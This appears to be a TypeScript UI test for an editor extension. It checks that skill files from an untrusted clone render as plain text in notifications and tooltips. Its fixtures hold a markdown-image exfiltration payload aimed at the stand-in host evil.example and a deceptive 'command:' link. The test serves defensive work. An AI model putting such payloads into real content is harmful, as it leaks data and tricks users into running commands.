import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { pictureOnFailure } from '../driver/pictureOnFailure.js';
import type { Workbench } from '../driver/workbench.js';
import { openDemo } from './resultsDriver.js';

const skill = 'hostile';
const names = ['Ada', 'Bo', 'Cem', 'Dora', 'Emil', 'Fay', 'Gus', 'Hana'];
const learnt = 'Ada';
const image = '![x](https://evil.example/prompt.png?d=secret)';
const link = '[Click here to repair it](command:workbench.action.toggleZenMode)';

/** What a clone may bring, as a person sees it: nothing of it can be pressed, and nothing is asked of a stranger's server. */
describe('the text of a stranger in the window', () => {
  let workbench: Workbench;
  const asked: string[] = [];
  pictureOnFailure(() => workbench);

  before(async function () {
    workbench = await openDemo({ takesOver: true });
    workbench.page.on('request', (request) => void asked.push(request.url()));
    const folder = path.join(workbench.session.workspace ?? '', 'skills', skill);
    put(
      folder,
      'SKILL.md',
      `---\nname: ${skill}\ndescription: Brings hostile tasks.\n---\n\n# Hostile\n\nGreet people.\n`,
    );
    const expectations = ['The answer contains “harbour”.'];
    put(folder, 'evals/evals.json', {
      evals: names.map((name) => ({ id: name, prompt: `Greet ${name} at work ${image}`, expectations })),
    });
    const tasks = Object.fromEntries(
      names.map((name) => [name, { environment: link, ...(name === learnt ? { split: 'training' } : {}) }]),
    );
    put(folder, 'evals/whetstone.json', { format: 'whetstone.tasks', version: 1, tasks });
    await workbench.openContainer('Whetstone');
    await workbench.tree('Skills').row(skill);
  });

  after(async () => workbench.close());

  it('makes no link in a message', async function () {
    await workbench.palette('Whetstone: Optimize This Skill');
    await workbench.quickInput.choose(skill);
    assert.match(await workbench.dialogs.text(), /The tasks in “\[Click here to repair it\]/);
    await workbench.dialogs.press('Optimize');
    const said = await workbench.toast(/Click here to repair it/);
    assert.match(said, /\[Click here to repair it\] \(command:/);
    const links = workbench.page.locator('.notifications-toasts .notification-list-item-message a');
    assert.equal(await links.count(), 0);
    await workbench.screenshot('hostile-message');
    await workbench.toasts.clear();
  });

  it('loads no picture in a tooltip, and shows its words', async function () {
    const tree = workbench.tree('Skills');
    await tree.expand(skill);
    await tree.expand('Tasks');
    await tree.expand('Training');
    await (await tree.row(learnt)).locator('.label-name').hover();
    const hover = workbench.page.locator('.workbench-hover, .monaco-hover').filter({ hasText: 'evil.example' }).first();
    await hover.waitFor();
    assert.match(await hover.innerText(), /!\[x\]\(https:\/\/evil\.example\/prompt\.png\?d=secret\)/);
    assert.equal(await hover.locator('img, a').count(), 0);
    await workbench.screenshot('hostile-tooltip');
    assert.deepEqual(
      asked.filter((url) => url.includes('evil.example')),
      [],
    );
    await tree.collapse(skill);
  });
});

function put(folder: string, name: string, content: string | object): void {
  const file = path.join(folder, name);
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, typeof content === 'string' ? content : JSON.stringify(content, undefined, 2));
}
